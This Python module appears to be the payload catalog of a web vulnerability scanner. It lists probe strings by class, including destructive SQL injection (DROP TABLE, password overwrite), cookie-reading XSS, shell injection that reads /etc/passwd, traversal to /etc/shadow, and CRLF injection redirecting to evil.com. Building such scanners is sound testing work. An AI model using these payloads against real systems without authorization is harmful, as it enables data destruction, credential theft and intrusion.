"""
Payload Catalog - Static attack strings for every vulnerability class.

Each vulnerability type owns one immutable, ordered payload set. Callers can
request a prefix (first N payloads) to bound the number of probes a scan
sends, so the most representative payloads are listed first.

Design Pattern: Static catalog keyed by enum
"""

from enum import Enum
from typing import Dict, Optional, Tuple


class VulnerabilityType(Enum):
    """Vulnerability classes probed by the scanner"""
    SQL_INJECTION = "SQL Injection"
    XSS = "XSS"
    COMMAND_INJECTION = "Command Injection"
    PATH_TRAVERSAL = "Path Traversal"
    NOSQL_INJECTION = "NoSQL Injection"
    HEADER_INJECTION = "Header Injection"
    RATE_LIMITING = "Rate Limiting"
    MALFORMED_PAYLOAD = "Malformed Payload"
    HTTP_METHOD = "HTTP Method"
    PAYLOAD_SIZE = "Payload Size"

    @classmethod
    def from_name(cls, name: str) -> "VulnerabilityType":
        """
        Resolve a vulnerability type from a user supplied name.

        Accepts the display name ("SQL Injection"), the enum name
        ("SQL_INJECTION") or a snake/kebab-case alias ("sql-injection"),
        all case-insensitive.

        Args:
            name: Name to resolve

        Returns:
            Matching VulnerabilityType

        Raises:
            ValueError: If the name matches no vulnerability type
        """
        if isinstance(name, cls):
            return name

        key = _normalize(name)
        for member in cls:
            if key in (_normalize(member.value), _normalize(member.name)):
                return member

        valid = ", ".join(member.value for member in cls)
        raise ValueError(f"Unknown vulnerability type {name!r} (expected one of: {valid})")


class SeverityLevel(Enum):
    """Fixed severity rating of a vulnerability class"""
    LOW = "Low"
    MEDIUM = "Medium"
    HIGH = "High"
    CRITICAL = "Critical"


def _normalize(name: str) -> str:
    return "".join(ch for ch in str(name).lower() if ch.isalnum())


_SQL_INJECTION = (
    # Authentication bypass
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR '1'='1' --",
    "\" OR \"1\"=\"1\" --",
    "' OR '1'='1' /*",
    "1' OR '1'='1",
    "1\" OR \"1\"=\"1",

    # Union based
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL, NULL--",
    "' UNION SELECT username, password FROM users--",
    "1 UNION SELECT * FROM users",

    # Error based
    "' AND 1=CONVERT(int, @@version)--",
    "' AND 1=1--",
    "' AND 1=2--",

    # Time based blind
    "'; WAITFOR DELAY '0:0:5'--",
    "' OR SLEEP(5)--",
    "1' AND SLEEP(5)#",

    # Stacked queries
    "'; DROP TABLE users--",
    "'; INSERT INTO users VALUES('hacker','hacked')--",
    "'; UPDATE users SET password='hacked'--",

    # Operator smuggling
    "{'$gt': ''}",
    "{'$ne': null}",
    "admin'--",

    "1; DROP TABLE users",
    "1'); DROP TABLE users--",
    "' OR ''='",
    "' OR 1=1#",
    "admin'/*",
    "') OR ('1'='1",
)

_XSS = (
    "<script>alert(1)</script>",
    "<script>alert('XSS')</script>",
    "<script>alert(document.cookie)</script>",

    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",

    # Attribute breakout
    "\" onclick=\"alert(1)\"",
    "' onclick='alert(1)'",
    "\" onfocus=\"alert(1)\" autofocus=\"",

    # URL schemes
    "javascript:alert(1)",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",

    # Encoded
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",

    # SVG
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",

    # Template expressions
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",

    # DOM contexts
    "'-alert(1)-'",
    "\"-alert(1)-\"",
    "</script><script>alert(1)</script>",
)

_COMMAND_INJECTION = (
    # Unix
    "; ls",
    "; ls -la",
    "| ls",
    "| ls -la",
    "& ls",
    "&& ls",
    "; cat /etc/passwd",
    "| cat /etc/passwd",
    "; whoami",
    "| whoami",
    "&& whoami",
    "& whoami",
    "; id",
    "| id",
    "; uname -a",
    "| uname -a",

    # Windows
    "& dir",
    "| dir",
    "; dir",
    "&& dir",
    "| type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "; type C:\\Windows\\win.ini",
    "| net user",

    # Time based
    "; sleep 5",
    "| sleep 5",
    "&& sleep 5",
    "; ping -c 5 127.0.0.1",
    "| ping -n 5 127.0.0.1",

    # Backticks and subshells
    "`ls`",
    "`whoami`",
    "`cat /etc/passwd`",
    "$(ls)",
    "$(whoami)",
    "$(cat /etc/passwd)",

    # Newline injection
    "%0als",
    "%0awhoami",
    "\\nls",
    "\\nwhoami",

    # Null byte
    "; ls%00",
    "| whoami%00",
)

_PATH_TRAVERSAL = (
    # Unix
    "../../../etc/passwd",
    "../../../../etc/passwd",
    "../../../../../etc/passwd",
    "../../../../../../etc/passwd",
    "../../../etc/shadow",
    "../../../etc/hosts",
    "../../../var/log/auth.log",
    "../../../root/.bash_history",

    # Windows
    "..\\..\\..\\windows\\system.ini",
    "..\\..\\..\\..\\windows\\system.ini",
    "..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\boot.ini",
    "....//....//....//etc/passwd",
    "....//..//..//..//windows/system.ini",

    # URL encoded
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%5c..%5c..%5cwindows%5csystem.ini",

    # Double encoded
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",

    # Null byte
    "../../../etc/passwd%00",
    "../../../etc/passwd%00.jpg",
    "../../../etc/passwd\x00.jpg",

    # Overlong UTF-8
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cwindows/system.ini",

    # Filter bypass
    "..../\\/..../\\/..../\\/etc/passwd",
    "..;/..;/..;/etc/passwd",
)

_NOSQL_INJECTION = (
    # Operator injection
    '{"$gt": ""}',
    '{"$ne": null}',
    '{"$ne": ""}',
    '{"$exists": true}',
    '{"$regex": ".*"}',
    '{"$where": "1==1"}',
    '{"$or": [{"a": 1}, {"b": 2}]}',

    # Query selectors
    '{"username": {"$ne": null}, "password": {"$ne": null}}',
    '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
    '{"$where": "this.password.length > 0"}',
    '{"$where": "function() { return true; }"}',

    # Field injection
    '{"name": {"$ne": null}}',
    '{"debug": {"$gt": ""}}',
    '{"admin": true}',
    '{"role": "admin"}',
    '{"isAdmin": true, "__proto__": {"admin": true}}',

    # Prototype pollution
    '{"__proto__": {"admin": true}}',
    '{"constructor": {"prototype": {"admin": true}}}',
    '{"__proto__": {"isAdmin": true}}',

    # Arrays
    '{"$in": [1, 2, 3]}',
    '{"ids": {"$in": [1, 2, 3, 4, 5]}}',

    # Clause smuggling
    'true, $where: "1 == 1"',
    '1, $or: [{}, {"a": "a"}]',
    "'; return true; var dummy='",

    # Server-side JavaScript
    "1; return true",
    "1'; return true; var x='",
    "function() { return true; }",
)

_HEADER_INJECTION = (
    # Script reflection
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',

    # SQL through headers
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "7.0.1; DROP TABLE users",

    # CRLF / response splitting
    "test\r\nSet-Cookie: malicious=value",
    "test%0d%0aSet-Cookie: evil=true",
    "%0d%0aLocation: http://evil.com",

    # Host header values
    "evil.com",
    "127.0.0.1",
    "localhost",
)

# Probe markers only; throttling is observed from the responses themselves.
_RATE_LIMITING = (
    "rate_limit_test_1",
    "rate_limit_test_2",
    "rate_limit_test_3",
)

_MALFORMED_PAYLOAD = (
    # Invalid JSON
    '{ "name": 123,, "xyz": }',
    '{"unclosed": "string',
    '{name: "no quotes"}',
    '{"trailing": "comma",}',

    # Empty and null
    "",
    "{}",
    "[]",
    "null",

    # Type confusion
    '{"name": 12345}',
    '{"age": "twenty"}',
    '{"active": "yes"}',
    '{"items": "not-array"}',

    # Boundary values
    '{"count": -1}',
    '{"count": 999999999999}',
    '{"id": -999999}',

    # Control characters
    '{"name": "\\u0000\\u0001"}',
    '{"name": "test\\ninjection"}',

    # Unicode
    '{"name": "😀🎉🔥"}',
    '{"name": "中文测试"}',

    # Deep nesting
    '{"a":{"b":{"c":{"d":{"e":{"f":"deep"}}}}}}',
)

_HTTP_METHOD = (
    "TRACE",
    "OPTIONS",
    "PUT",
    "DELETE",
    "PATCH",
    "CONNECT",
    "PROPFIND",
    "DEBUG",
)

PAYLOAD_SIZES = (500, 1000, 5000, 10000, 50000)

_PAYLOAD_SIZE = tuple("A" * size for size in PAYLOAD_SIZES)


_CATALOG: Dict[VulnerabilityType, Tuple[str, ...]] = {
    VulnerabilityType.SQL_INJECTION: _SQL_INJECTION,
    VulnerabilityType.XSS: _XSS,
    VulnerabilityType.COMMAND_INJECTION: _COMMAND_INJECTION,
    VulnerabilityType.PATH_TRAVERSAL: _PATH_TRAVERSAL,
    VulnerabilityType.NOSQL_INJECTION: _NOSQL_INJECTION,
    VulnerabilityType.HEADER_INJECTION: _HEADER_INJECTION,
    VulnerabilityType.RATE_LIMITING: _RATE_LIMITING,
    VulnerabilityType.MALFORMED_PAYLOAD: _MALFORMED_PAYLOAD,
    VulnerabilityType.HTTP_METHOD: _HTTP_METHOD,
    VulnerabilityType.PAYLOAD_SIZE: _PAYLOAD_SIZE,
}

_SEVERITY: Dict[VulnerabilityType, SeverityLevel] = {
    VulnerabilityType.SQL_INJECTION: SeverityLevel.CRITICAL,
    VulnerabilityType.XSS: SeverityLevel.HIGH,
    VulnerabilityType.COMMAND_INJECTION: SeverityLevel.CRITICAL,
    VulnerabilityType.PATH_TRAVERSAL: SeverityLevel.HIGH,
    VulnerabilityType.NOSQL_INJECTION: SeverityLevel.CRITICAL,
    VulnerabilityType.HEADER_INJECTION: SeverityLevel.HIGH,
    VulnerabilityType.RATE_LIMITING: SeverityLevel.MEDIUM,
    VulnerabilityType.MALFORMED_PAYLOAD: SeverityLevel.LOW,
    VulnerabilityType.HTTP_METHOD: SeverityLevel.MEDIUM,
    VulnerabilityType.PAYLOAD_SIZE: SeverityLevel.MEDIUM,
}


def get_payloads(
    vuln_type: VulnerabilityType,
    limit: Optional[int] = None,
) -> Tuple[str, ...]:
    """
    Get the ordered payload set for a vulnerability type.

    Args:
        vuln_type: Vulnerability type
        limit: Return only the first N payloads (None = all)

    Returns:
        Tuple of payload strings (same order on every call)
    """
    payloads = _CATALOG[vuln_type]
    if limit is not None:
        return payloads[:max(limit, 0)]
    return payloads


def get_severity(vuln_type: VulnerabilityType) -> SeverityLevel:
    """Get the fixed severity rating for a vulnerability type"""
    return _SEVERITY[vuln_type]
